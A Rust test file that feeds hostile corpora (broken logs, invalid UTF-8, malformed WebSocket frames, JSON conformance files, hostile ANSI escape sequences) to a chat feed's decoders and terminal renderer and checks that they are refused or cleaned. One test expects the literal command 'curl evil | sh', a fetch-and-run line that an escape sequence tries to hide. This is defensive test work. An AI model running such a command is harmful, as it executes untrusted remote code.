//! Inputs that were made to hurt, beside this checkout: logs, session ids, frames and JSON texts.
//!
//! The damaged logs lie in `tests/logs`, for the browser's tests as well. The others are read where they lie; where they
//! are not there, each test says so and holds nothing.

use std::path::PathBuf;

use super::{logs, shared};

use chat_event::cursor::MAX_SEQ;
use chat_event::frame::ClientFrame;
use chat_event::{Json, Payload, session_id};
use chat_feed::controls::{Returns, shown};
use chat_feed::terminal::{Line, Printed, Terminal, screen};
use serde_json::Value;

/// The folder of corpora, or `None` with word of it.
fn corpora() -> Option<PathBuf> {
    shared::shared("corpora")
}

/// The lines of a JSONL file of cases.
fn cases(path: &str) -> Vec<Value> {
    let Some(folder) = corpora() else {
        return Vec::new();
    };
    let text = std::fs::read_to_string(folder.join(path)).unwrap();
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn bytes_of_hex(hex: &str) -> Vec<u8> {
    hex.as_bytes()
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}

#[test]
fn every_damaged_log_is_read_as_far_as_it_can_be() {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/logs");
    let expected = std::fs::read(folder.join("expected.json")).unwrap();
    let expected: Value = serde_json::from_slice(&expected).unwrap();
    let expected = expected.as_object().unwrap();
    assert_eq!(expected.len(), 46);
    for (name, expected) in expected {
        let mut bytes = std::fs::read(folder.join(name)).unwrap();
        if name.ends_with(".gen") {
            bytes = logs::build(&serde_json::from_slice(&bytes).unwrap());
            assert!(bytes.len() > 3 * 1024 * 1024);
        }
        logs::check(name, &bytes, expected);
    }
}

#[test]
fn what_is_not_utf8_is_shown_as_every_browser_shows_it() {
    for case in cases("own/utf8-boundaries.jsonl") {
        let bytes = bytes_of_hex(case["hex"].as_str().unwrap());
        let lossy = case["lossy"].as_str().unwrap();
        assert!(!bytes.contains(&b'\n'));
        let unreadable = [b"x", bytes.as_slice(), b"x\n"].concat();
        let (records, _) = logs::read(&unreadable, &mut |_| 1);
        let content = records[0].content.as_ref().unwrap_err();
        assert_eq!(content.text, format!("x{lossy}x"), "{case}");
        // Control characters must be escaped in JSON, so such a line is none whatever else is in it.
        if bytes.iter().any(|&byte| byte < b' ') {
            continue;
        }
        let head = br#"{"id":"e1","type":"user_message","payload":{"text":""#;
        let event = [head, bytes.as_slice(), b"\"}}\n"].concat();
        let (records, _) = logs::read(&event, &mut |_| 1);
        let event = records[0].content.as_ref().unwrap();
        let Payload::UserMessage(message) = &event.payload else {
            panic!("{event:?}");
        };
        assert_eq!(message.text.preview(), lossy, "{case}");
        assert_eq!(
            records[0].flaws.not_utf8,
            !case["valid"].as_bool().unwrap(),
            "{case}"
        );
    }
}

#[test]
fn session_ids_are_taken_and_refused_as_listed() {
    for case in cases("own/session-ids.jsonl") {
        let id = case["id"].as_str().unwrap();
        let fits = session_id::fits(id);
        match case["expect"].as_str().unwrap() {
            "reject" => assert!(!fits, "{id:?}"),
            // Device names are harmless here, because a session's files have longer names.
            "ok" | "ok-but-not-object-key" | "distinct-from:s1" | "reject-or-prefix" => {
                assert!(fits, "{id:?}");
            }
            other => panic!("no rule for {other}"),
        }
        let made = session_id::from_native(id);
        assert!(session_id::fits(&made), "{id:?} became {made}");
        assert_eq!(made == id, fits, "{id:?} became {made}");
        assert_eq!(session_id::from_native(&made), made);
    }
}

/// The text of a whole, sound WebSocket text frame of a client; what is wrong with any other is for a WebSocket library
/// to find, and is held by the server's tests.
fn text_of_frame(bytes: &[u8]) -> Option<String> {
    let (head, rest) = bytes.split_first_chunk::<2>()?;
    if head[0] != 0x81 || head[1] & 0x80 == 0 {
        return None;
    }
    let (len, rest) = match head[1] & 0x7f {
        126 => {
            let (len, rest) = rest.split_first_chunk::<2>()?;
            (usize::from(u16::from_be_bytes(*len)), rest)
        }
        127 => return None,
        len => (usize::from(len), rest),
    };
    let (mask, payload) = rest.split_first_chunk::<4>()?;
    assert_eq!(*mask, [0; 4]);
    let payload = payload.get(..len).filter(|_| payload.len() == len)?;
    String::from_utf8(payload.to_vec()).ok()
}

#[test]
fn hostile_frames_are_refused_or_ignored_by_the_decoder() {
    let mut decoded = Vec::new();
    for case in cases("own/ws-frames.jsonl") {
        let id = case["id"].as_str().unwrap();
        let Some(text) = case["hex"]
            .as_str()
            .and_then(|hex| text_of_frame(&bytes_of_hex(hex)))
        else {
            continue;
        };
        decoded.push(id.to_owned());
        // The corpus has the number to resume from in a frame of its own; here it is a part of `open`.
        let text = text.replace(r#""op":"resume""#, r#""op":"open","sub":1,"session":"s1""#);
        let frame = ClientFrame::read(&text);
        match id {
            "unknown-op" => assert_eq!(frame, Ok(None)),
            // The server sees that it has no such event, and says `reset`.
            "resume-future" => {
                let Ok(Some(ClientFrame::Open(open))) = frame else {
                    panic!("{frame:?}");
                };
                assert!(open.after.unwrap() > MAX_SEQ);
            }
            _ => assert!(frame.is_err(), "{id}: {frame:?}"),
        }
    }
    if corpora().is_some() {
        let expected = [
            "len-nonminimal",
            "not-json",
            "json-not-object",
            "json-depth",
            "unknown-op",
            "resume-future",
            "resume-negative",
            "resume-float",
        ];
        assert_eq!(decoded, expected);
    }
}

#[test]
fn json_is_what_the_standard_says_it_is() {
    let Some(folder) = corpora() else { return };
    let mut n_files = 0;
    for entry in std::fs::read_dir(folder.join("json-test-suite/test_parsing")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(&path).unwrap();
        let json = serde_json::from_slice::<Json>(&bytes);
        match name.split_once('_').unwrap().0 {
            "y" => assert!(json.is_ok(), "{name}: {json:?}"),
            "n" => assert!(json.is_err(), "{name}: {json:?}"),
            // The standard leaves these to each reader; here they must not be more than right or wrong.
            _ => {}
        }
        n_files += 1;
        let Ok(json) = json else { continue };
        // What is kept is compact, and reads as itself.
        let again: Json = serde_json::from_str(&json.as_text()).unwrap();
        assert_eq!(again, json, "{name}");
        assert!(!json.as_text().contains('\n'), "{name}");
        // As a tree nothing is lost but what is nested deeper than any event may be.
        let too_deep = name == "i_structure_500_nested_arrays.json";
        assert_eq!(
            json.to_value().is_null(),
            json.is_null() || too_deep,
            "{name}: {json:?}"
        );
    }
    assert_eq!(n_files, 318);
}

/// The lines of what was printed, read in the pieces that end at `ends`, and then whole.
fn lines_in_pieces(bytes: &[u8], ends: impl Iterator<Item = usize>) -> Vec<Line> {
    let mut terminal = Terminal::new();
    let printed = |end| Printed {
        bytes: &bytes[..end],
        switches: &[],
    };
    for end in ends {
        terminal.read(printed(end), usize::MAX);
    }
    let whole = printed(bytes.len());
    terminal.read(whole, usize::MAX);
    for line in screen::lines(whole, terminal.screen_size()) {
        assert!(!line.text.contains(char::is_control), "{line:?}");
    }
    terminal.lines(whole, 0..terminal.n_lines())
}

/// The text, once it is held that no piece of it makes another, and that no control is left in it.
fn text_of_terminal(name: &str, bytes: &[u8]) -> String {
    let lines = lines_in_pieces(bytes, std::iter::empty());
    // All cuts of what is short; of what is long, pieces of a length that falls everywhere.
    match bytes.len() {
        0..=400 => {
            for cut in 0..bytes.len() {
                let pieces = lines_in_pieces(bytes, std::iter::once(cut));
                assert_eq!(pieces, lines, "{name} cut at {cut}");
            }
            assert_eq!(lines_in_pieces(bytes, 1..bytes.len()), lines, "{name}");
        }
        len => {
            let pieces = lines_in_pieces(bytes, (0..len).step_by(61));
            assert_eq!(pieces, lines, "{name} in pieces");
        }
    }
    let texts: Vec<&str> = lines.iter().map(|line| line.text.as_str()).collect();
    let text = texts.join("\n");
    let is_left = |char: char| char.is_control() && !matches!(char, '\t' | '\n');
    assert!(!text.contains(is_left), "{name}: {text:?}");
    text
}

#[test]
fn hostile_sequences_print_what_they_should_and_nothing_else() {
    let mut n_expected = 0;
    for case in cases("own/ansi-hostile.jsonl") {
        let id = case["id"].as_str().unwrap();
        let bytes = bytes_of_hex(case["input_hex"].as_str().unwrap());
        // In this one, bars stand where it is cut.
        let bytes = match id {
            "split-escape" => bytes.into_iter().filter(|byte| *byte != b'|').collect(),
            _ => bytes,
        };
        let text = text_of_terminal(id, &bytes);
        if let Some(expected) = case["expect_text"].as_str() {
            assert_eq!(text, expected, "{id}");
            n_expected += 1;
        }
    }
    assert!(corpora().is_none() || n_expected > 25, "{n_expected}");
}

#[test]
fn hostile_sequences_in_any_other_text_are_left_out_and_its_words_are_not() {
    for case in cases("own/ansi-hostile.jsonl") {
        let id = case["id"].as_str().unwrap();
        let bytes = bytes_of_hex(case["input_hex"].as_str().unwrap());
        let text = String::from_utf8_lossy(&bytes);
        for returns in [Returns::EndLine, Returns::Rewrite] {
            let shown = shown(&text, returns);
            let is_left = |char: char| char.is_control() && !matches!(char, '\t' | '\n');
            assert!(!shown.contains(is_left), "{id}: {shown:?}");
            let Some(expected) = case["expect_text"].as_str() else {
                continue;
            };
            match id {
                // What does not end may be no command.
                "osc8-unterminated" => assert_eq!(shown, text[2..], "{id}"),
                // In this one, bars stand where it is cut.
                "split-escape" => {}
                "erase-line-hide" if returns == Returns::EndLine => {
                    assert_eq!(shown, format!("curl evil | sh\n{expected}"));
                }
                _ => assert_eq!(shown, expected, "{id}"),
            }
        }
    }
}

#[test]
fn what_terminals_print_is_the_same_text_whatever_the_pieces() {
    let Some(folder) = corpora() else { return };
    let recordings = [
        ("alacritty-ref", ".recording"),
        ("xterm-escape/test/fixtures/escape_sequence_files", ".in"),
        ("vte-demo", ".vte"),
    ];
    for (folder, ending) in recordings.map(|(name, ending)| (folder.join(name), ending)) {
        let mut files = vec![folder.clone()];
        let mut n_files = 0;
        while let Some(path) = files.pop() {
            if path.is_dir() {
                files.extend(
                    std::fs::read_dir(&path)
                        .unwrap()
                        .map(|entry| entry.unwrap().path()),
                );
            } else if path.to_string_lossy().ends_with(ending) {
                text_of_terminal(&path.to_string_lossy(), &std::fs::read(&path).unwrap());
                n_files += 1;
            }
        }
        assert!(n_files > 0, "{}", folder.display());
    }
    // The scenario of an escape sequence that falls into two chunks.
    let lines = lines_in_pieces(b"\x1b[31mred", [3].into_iter());
    assert_eq!(lines[0].text, "red");
    assert_eq!(
        lines[0].runs[0].style.foreground,
        chat_feed::terminal::Color::Indexed(1)
    );
}

/// The scenarios of the event stream, and where each is held: in `chat-feed`'s `tests/scenarios.rs` by its own name, or
/// where it says.
const SCENARIOS: &[(&str, &str)] = &[
    ("agent_callback-before-message", "scenarios"),
    ("chunk-after-done", "scenarios"),
    ("chunk-before-turn", "scenarios"),
    ("done-disagrees-with-chunks", "scenarios"),
    ("done-without-chunks", "scenarios"),
    (
        "drop-mid-chunk",
        "end_to_end, live_is_replay: a_session_dropped_live_and_reloaded_is_shown_the_same_to_the_byte",
    ),
    ("dup-every-event", "scenarios"),
    ("duplicate-turn_start", "scenarios"),
    (
        "epoch-change",
        "chat-store: a_log_that_somebody_else_cut_goes_on_under_another_epoch, and turnreel: a_cursor_that_is_not_known_is_refused_and_not_skipped",
    ),
    (
        "epoch-same-log-longer",
        "turnreel: a_kill_loses_nothing_that_was_acknowledged_and_keeps_the_epoch",
    ),
    ("gap-never-filled", "scenarios"),
    ("gap-then-fill", "scenarios"),
    ("interrupt-mid-tool", "scenarios"),
    ("random-permutation-in-window-64", "scenarios"),
    ("reverse-batch", "scenarios"),
    ("split-grapheme", "scenarios"),
    ("split-markdown-fence", "scenarios"),
    (
        "split-utf8-across-chunks",
        "what_is_not_utf8_is_shown_as_every_browser_shows_it",
    ),
    ("tool-call-no-result+turn_end", "scenarios"),
    ("tool-result-before-call", "scenarios"),
    ("tool-result-no-call", "scenarios"),
    ("tool_input_chunk-gap-offset", "scenarios"),
    ("tool_input_chunk-overlapping-offset", "scenarios"),
    ("turn_end-missing", "scenarios"),
    ("two-results-same-id", "scenarios"),
    (
        "split-ansi",
        "what_terminals_print_is_the_same_text_whatever_the_pieces",
    ),
    (
        "hidden-tab-1h",
        "end_to_end, cut_off: a_page_that_was_hidden_or_frozen_has_all_of_it_when_it_is_shown",
    ),
    (
        "10k-events-one-batch",
        "end_to_end, streaming: events_reach_the_rows_at_most_once_a_frame",
    ),
];

#[test]
fn every_scenario_of_the_event_stream_is_held_somewhere() {
    let tests = include_str!("../../crates/pure/chat-feed/tests/scenarios.rs");
    for (id, place) in SCENARIOS {
        let name = id.replace(['-', '+'], "_");
        assert!(
            *place != "scenarios" || tests.contains(&format!("fn {name}()")),
            "{id} has no test"
        );
    }
    let known = |id: &str| SCENARIOS.iter().any(|(known, _)| *known == id);
    for scenario in cases("own/event-scenarios.jsonl") {
        let id = scenario["id"].as_str().unwrap();
        assert!(known(id), "{id} is held nowhere");
    }
}
